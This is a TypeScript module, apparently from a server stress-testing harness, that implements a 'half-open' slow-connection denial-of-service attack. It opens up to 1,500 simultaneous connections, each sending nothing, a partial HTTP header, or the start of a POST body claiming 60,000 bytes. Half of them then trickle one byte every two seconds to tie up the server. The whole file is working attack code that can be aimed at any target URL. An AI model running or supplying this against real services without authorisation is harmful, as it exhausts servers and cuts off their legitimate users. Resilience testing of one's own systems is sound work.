import type { Attack } from './attack.ts';
import { open, untilEnded } from './connection.ts';

const lastsMs = 30_000;
const trickleEveryMs = 2_000;

const beginnings = [
  () => '',
  (host: string) => `GET /healthz HTTP/1.1\r\nHost: ${host}\r\n`,
  (host: string) =>
    `POST /api/session HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
] as const;

/**
 * Connects and says nothing, half of a head, or the beginning of a body; every second connection goes on for ever, a byte at a time. More
 * are open at once than a server of two tills lets in, and from each address more than one may have.
 */
export const halfOpen: Attack = {
  name: 'half-open',
  bounds: { connections: 1_500, perSecond: 200, total: 60_000 },
  async strike(strike) {
    const { target, random, signal } = strike;
    const socket = open(strike);
    const ended = untilEnded(socket, signal, lastsMs);
    socket.resume();
    socket.write(random.pick(beginnings)(new URL(target.url).host));
    const trickle = random.chance(0.5) ? setInterval(() => socket.write('x'), trickleEveryMs) : undefined;
    return ended.finally(() => clearInterval(trickle));
  },
};
